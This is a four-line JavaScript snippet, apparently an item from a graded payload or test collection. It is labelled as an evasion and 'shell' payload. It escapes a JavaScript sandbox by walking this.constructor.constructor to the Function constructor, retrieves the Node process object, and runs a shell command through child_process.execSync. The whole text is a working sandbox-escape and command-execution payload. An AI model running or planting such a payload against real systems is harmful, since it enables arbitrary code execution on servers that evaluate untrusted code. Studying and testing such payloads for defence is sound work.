// evasion: this.constructor.constructor reaches Function
// grade: hard; does: shell
const f = this.constructor.constructor("return process")();
f.mainModule.require("child_process").execSync("id");
